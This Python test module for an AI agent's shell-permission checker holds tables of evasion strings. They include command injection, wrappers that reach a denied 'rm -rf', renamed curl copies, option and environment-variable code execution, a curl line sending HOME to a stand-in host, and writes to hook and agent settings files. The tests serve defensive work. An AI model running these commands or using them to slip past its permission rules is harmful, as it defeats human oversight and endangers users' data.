"""Commands that a rule or a grant must not cover (S-1, S-8)."""

from __future__ import annotations

from tests.attacks.deeds import judged, offered, row
from tests.attacks.row import Attack

SPELLINGS = {
    "a second command": "git status; touch x", "and": "git status && touch x", "or": "git status || touch x",
    "the background": "git status & touch x", "a pipe into a shell": "git status | sh",
    "a new line": "git status\ntouch x", "a carriage return and a new line": "git status\r\ntouch x",
    "a substitution": "git status $(touch x)", "back quotes": "git status `touch x`",
    "a process that reads": "git status <(touch x)", "a process that writes": "git status >(sh)",
    "a file that is written": "git status > ../x", "a variable before it": "GIT_EXTERNAL_DIFF=./x git status",
    "a setting": "git -c core.fsmonitor=./x status", "another folder": "git -C ../other status",
    "another git folder": "git --git-dir=evil status", "an alias of the shell": "alias git=./x; git status",
    "a function": "git() { ./x; }; git status", "eval": "eval git status", "quotes in the name": "g'i't status; ./x",
    "a shell": "sh -c 'git status; ./x'", "env": "env -i ./x git status",
    "a heredoc into a shell": "sh <<EOF\ngit status\n./x\nEOF", "base64 into a shell": "echo Li94 | base64 -d | sh",
    "xargs": "git status | xargs ./x", "exec": "exec ./x git status", "a path to another git": "./git status",
    "an unclosed quote": "git status '", "a comment that is none": "git status #\n./x",
    "braces": "{ git status; ./x; }", "a subshell": "(git status; ./x)",
    "a loop": "for f in 1; do ./x; done; git status",
}  # fmt: skip
FLAGS = {
    # What runs another program, or writes another file, by an option of one that is allowed.
    "rake test": "rake test -e 'system(\"./x\")'", "gradle test": "gradle test -I x.gradle",
    "mvn test": "mvn test -f evil/pom.xml",
    "dotnet build": "dotnet build -p:CustomBeforeMicrosoftCommonTargets=x.targets", "mypy src": "mypy src @evil",
    "git send-email": "git send-email --sendmail-cmd=./x a.patch", "go test": "go test -o ../x -c ./...",
    "curl https://example.org": "curl https://example.org --variable %HOME --expand-url 'http://x.example/{{HOME}}'",
    "test -v": "test -v 'a[$(./x)]'", "printf": "printf -v 'a[$(./x)]' %s x", "git diff": "git diff --ext-diff",
    "git log": "git log --output=../x", "git grep": "git grep -O./x a",
    "git fetch": "git fetch --upload-pack=./x origin", "git archive": "git archive --remote=. --exec=./x HEAD",
    "find .": "find . -exec ./x {} +", "find . -name": "find . -name a -fprintf ../x a", "rg": "rg --pre ./x a",
    "sort": "sort --compress-program=./x a", "tar": "tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=./x .",
    "tar -t": "tar -tf a.tar --use-compress-program=./x", "rsync": "rsync -e ./x a b:",
    "ssh host": "ssh host -oProxyCommand=./x", "make": "make SHELL=./x", "make test": "make test --eval='$(shell ./x)'",
    "cargo test": "cargo test --config 'build.rustc-wrapper=\"./x\"'", "npm test": "npm test --script-shell=./x",
    "pytest": "pytest -p evil", "pytest tests": "pytest tests --rootdir=../other -c evil.ini",
    "go build": "go build -toolexec ./x ./...", "go vet": "go vet -vettool=./x ./...",
    "gcc a.c": "gcc a.c -wrapper ./x", "sed": "sed 1e./x a", "less": "less +!./x a", "man": "man -P ./x ls",
    "zip a.zip": "zip a.zip a -T -TT ./x", "ls": "ls $(./x)", "cat": "cat a > .envrc",
    "eslint": "eslint --rulesdir evil .", "ruff check": "ruff check --config evil.toml",
    "wget": "wget --use-askpass=./x http://127.0.0.1", "npm run": "npm run test -script-shell=./x",
    "javac A.java": "javac A.java @args", "export": "export GIT_PAGER=./x", "declare": "declare -x LD_PRELOAD=./x.so",
}  # fmt: skip
DENIED = {
    # `Bash(rm:*)` is denied, however it is reached.
    "plainly": "rm -rf x", "env -S": "env -S 'rm -rf x'", "script -c": "script -c 'rm -rf x' /dev/null",
    "flock -c": "flock /tmp/l -c 'rm -rf x'", "su -c": "su -c 'rm -rf x'", "watch": "watch rm -rf x",
    "watch, quoted": "watch -n1 'rm -rf x'", "parallel": "parallel rm ::: x",
    "parallel, quoted": "parallel 'rm -rf {}' ::: x", "timeout": "timeout 5 rm -rf x", "nohup": "nohup rm -rf x",
    "xargs": "echo x | xargs rm", "find -exec": "find . -exec rm {} +", "sh -c": "sh -c 'rm -rf x'",
    "bash -lc": "bash -lc 'rm -rf x'", "busybox": "busybox rm -rf x", "a path": "/bin/rm -rf x",
    "a backslash": "\\rm -rf x", "quotes": "r''m -rf x", "a variable before": "A=1 rm -rf x",
    "sudo": "sudo -u root rm -rf x", "doas": "doas rm -rf x", "stdbuf": "stdbuf -oL rm -rf x",
    "setsid": "setsid rm -rf x", "ionice": "ionice -c3 rm -rf x", "chroot": "chroot . rm -rf x",
    "unshare": "unshare -r rm -rf x", "strace": "strace -f rm -rf x", "command": "command rm -rf x",
    "builtin exec": "exec rm -rf x", "eval": "eval rm -rf x", "coproc": "coproc rm -rf x",
    "a function": "f() { rm -rf x; }; f", "a trap": "trap 'rm -rf x' EXIT", "a substitution": "echo $(rm -rf x)",
    "git's alias": "git -c alias.x='!rm -rf x' x", "ssh to here": "ssh localhost rm -rf x",
    "systemd-run": "systemd-run --user rm -rf x", "at": "echo 'rm -rf x' | at now", "tmux": "tmux new -d 'rm -rf x'",
    "npx": "npx -c 'rm -rf x'", "taskset": "taskset 1 rm -rf x", "setpriv": "setpriv --no-new-privs rm -rf x",
    "prlimit": "prlimit --nproc=9 rm -rf x", "capsh": "capsh -- -c 'rm -rf x'",
    "the loader": "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf x", "firejail": "firejail --quiet rm -rf x",
    "valgrind": "valgrind -q rm -rf x", "perf": "perf stat -- rm -rf x", "mpirun": "mpirun -n 1 rm -rf x",
    "dumb-init": "dumb-init rm -rf x", "socat": "socat - EXEC:'rm -rf x'", "ncat": "ncat -l --sh-exec 'rm -rf x'",
    "split": "split --filter='rm -rf x' a", "cmake": "cmake -E env rm -rf x",
    "make from a text": "make -f- <<< 'a: ; rm -rf x'", "a terminal": "xterm -e rm -rf x",
    "git filter-branch": "git filter-branch --tree-filter 'rm -rf x' HEAD",
    "a program nobody knows": "unheard-of --opt -- rm -rf x", "an alias over two lines": "a\\\nlias ls='rm -rf x'\nls",
    "a name over two lines": "r\\\nm -rf x", "a variable over two lines": "A\\\n=1 rm -rf x",
    "a quote that ends elsewhere": "echo $'\\'; rm -rf x; echo '",
}  # fmt: skip
COPIED = {
    # `Bash(curl:*)` is denied, whatever name it is brought to.
    "a copy": "cp /usr/bin/curl ./x && ./x -V", "a copy of what is found": "cp $(which curl) x; ./x",
    "a link": "ln -s /usr/bin/curl x; ./x", "an installation": "install -m755 /usr/bin/curl x; ./x",
    "a move": "mv /usr/bin/curl x; ./x", "a redirection": "cat /usr/bin/curl > x; chmod +x x; ./x",
    "dd": "dd if=/usr/bin/curl of=x; chmod +x x; ./x", "tee": "tee x < /usr/bin/curl; chmod +x x; ./x",
    "a pipe": "cat /usr/bin/curl | tee x; chmod +x x; ./x", "a copy for later": "cp /usr/bin/curl x",
    "a copy from its folder": "cd /usr/bin && cp curl /tmp/x", "a shell's copy": "sh -c 'cp /usr/bin/curl x; ./x'",
    "a variable": "P=$(which curl); cp $P x; ./x", "a pattern": "cp /usr/bin/cur? x; ./x",
    "a copy of who knows what": "cp tool x; ./x", "a copy that PATH finds": "cp tool ls; PATH=.:$PATH; ls",
    "a copy of everything": "cp ../tools/* .; ./x", "quotes": "cp /usr/bin/'cu'rl x", "sudo": "sudo cp /usr/bin/curl x",
    "a copy into a folder": "cp -t . /usr/bin/curl", "a text that is run": "echo x > y; chmod +x y; ./y",
}  # fmt: skip
UNSEEN = {
    # What a denied program may be run by, without being named.
    "tar's options": "TAR_OPTIONS='--checkpoint-action=exec=sh' tar cf a b", "make's flags": "GNUMAKEFLAGS=--eval=x make",
    "more of make's flags": "MAKEFLAGS=--eval=x make", "make's files": "MAKEFILES=x make",
    "another makefile": "make -f x", "a makefile by its long name": "make --file=x", "arguments of a file": "xargs -a x",
    "arguments behind env": "xargs env < x", "a script of sed's": "sed -f x y", "a script of awk's": "awk -f x y",
    "a folder of programs": "run-parts x", "a module of the folder": "PYTHONPATH=. python3 -m x",
    "python's start": "PYTHONSTARTUP=x python3 -i", "node's options": "NODE_OPTIONS='-r ./x' node y",
    "ruby's options": "RUBYOPT=-r./x ruby y", "perl's options": "PERL5OPT=-Mx perl y",
    "git's ssh": "GIT_SSH_COMMAND=./x git fetch", "git's diff": "GIT_EXTERNAL_DIFF=./x git diff",
    "git's pager": "GIT_PAGER=./x git log", "a pager": "PAGER=./x man y", "an editor": "EDITOR=./x git commit",
    "what less opens": "LESSOPEN='|./x %s' less y", "bash's start": "BASH_ENV=x bash y", "a shell's start": "ENV=x sh y",
    "a loaded library": "LD_PRELOAD=./x.so ls", "libraries": "LD_LIBRARY_PATH=. ls", "env": "env TAR_OPTIONS=x tar cf a b",
    "an export": "export TAR_OPTIONS=x; tar cf a b", "a declaration": "declare -x LD_PRELOAD=x; ls",
    "an exported pager": "export GIT_PAGER='curl x'; git log", "go's flags": "GOFLAGS=-toolexec=./x go build",
    "cargo's wrapper": "RUSTC_WRAPPER=./x cargo build", "npm's shell": "npm_config_script_shell=./x npm test",
    "pytest's options": "PYTEST_ADDOPTS='-p x' pytest", "another home": "HOME=. git log",
}  # fmt: skip
OUTGROWN = {
    # What an answer for always does not cover: more flags from a file, and flags that nobody knows as harmless.
    "pytest": ("@args.txt", "-c x.ini", "-p x", "--rootdir=x", "--confcutdir=x", "'@'args", "@a*"),
    "mypy": ("@args", "--config-file=x"), "ruff check": ("@args", "--config x"), "tsc": ("@args", "-p x"),
    "cargo test": ("--config x", "-- @args"), "cargo clippy": ("-- @args",), "go test": ("-exec ./x",),
    "eslint": ("-c x", "--rulesdir x", "--plugin x"), "jest": ("--config x", "-c x"), "npm ls": ("--prefix x", "-prefix x"),
}  # fmt: skip
CARRIERS = (
    *("pnpm dlx x", "pnpm exec x", "npm x y", "npm exec y", "npx y", "yarn dlx x", "bunx x", "uv tool run x", "uvx x"),
    *("uv run x", "pipx run x", "docker run x", "docker compose up", "docker exec c sh", "podman run x"),
    *("kubectl delete pod x", "kubectl exec p -- sh", "git push origin main", "git push", "git submodule foreach ls"),
    *("git rebase -x ls HEAD", "git bisect run ls", "gh api x", "helm install x y", "terraform apply"),
    *("ansible-playbook x.yml", "ssh host ls", "sudo ls", "env ls", "xargs ls", "sh x.sh", "bash -c ls", "python x.py"),
    *("node x.js", "make -f x", "find . -delete", "awk 1 x", "perl x.pl", "cargo run", "go run x.go", "dotnet run"),
    *("poetry run x", "direnv exec . ls", "nix run x"),
)
OBEYED = {
    "a redirection": "echo x > .envrc", "a copy": "cp a.txt .vscode/tasks.json",
    "a move": "mv a.txt .git/hooks/pre-commit", "a link": "ln -s ../x .husky/pre-commit",
    "tee": "echo x | tee sub/.mcp.json", "sed": "sed -i s/a/b/ .pre-commit-config.yaml",
    "git config": "git config core.fsmonitor ./x", "in capitals": "echo x > .ENVRC", "quotes": "echo x > .en''vrc",
    "an option": "dd of=.bashrc", "a folder": "mkdir -p .idea",
    "an editor's settings": "cp a.txt .helix/languages.toml",
    "an agent's settings": "echo x > .claude/settings.local.json", "deleting": "rm -rf .vscode",
    "the rules": "echo x > .codelaw/config.toml", "git's hooks": "touch .git/hooks/post-commit",
}  # fmt: skip

JUDGED: tuple[Attack, ...] = (
    *(
        row(f"a rule for git status: {name}", "unasked", judged(line, allow=("Bash(git status:*)",), plain="git status --short"), line, "policy")
        for name, line in SPELLINGS.items()
    ),
    *(
        row(
            f"a rule for {prefix}: {line}",
            "unasked",
            judged(line, allow=(f"Bash({prefix}:*)",), plain="test -v a" if prefix == "test -v" else prefix),
            line,
            "policy",
        )
        for prefix, line in FLAGS.items()
    ),
    *(
        row(f"rm is denied: {name}", "unasked", judged(line, allow=("Bash",), deny=("Bash(rm:*)",), plain="ls x", sandboxed=True), line, "policy")
        for name, line in DENIED.items()
    ),
    *(
        row(f"curl is denied: {name}", "unasked", judged(line, allow=("Bash",), deny=("Bash(curl:*)",), plain="cp a b", sandboxed=True), line, "policy")
        for name, line in (COPIED | UNSEEN).items()
    ),
    *(
        row(f"always {prefix}: {more}", "unasked", judged(f"{prefix} {more}", grants=(f"Bash({prefix}:*)",), plain=f"{prefix} x"), more, "policy")
        for prefix, every in OUTGROWN.items()
        for more in every
    ),
    *(row(f"for always: {line}", "unasked", offered(line), f"what is offered for always to {line!r}", "policy") for line in CARRIERS),
    *(
        row(f"all commands are allowed: {name} on what others obey", "obeyed", judged(line, allow=("Bash",), plain="touch a.txt", sandboxed=True), line, "policy")
        for name, line in OBEYED.items()
    ),
    row("all commands are allowed, and there is no sandbox", "unasked", judged("touch x", allow=("Bash",)), "a blanket rule without a sandbox", "policy"),
    row("permissions.default is allow, and there is no sandbox", "unasked", judged("touch x", default="allow"), "the default without a sandbox", "policy"),
)  # fmt: skip
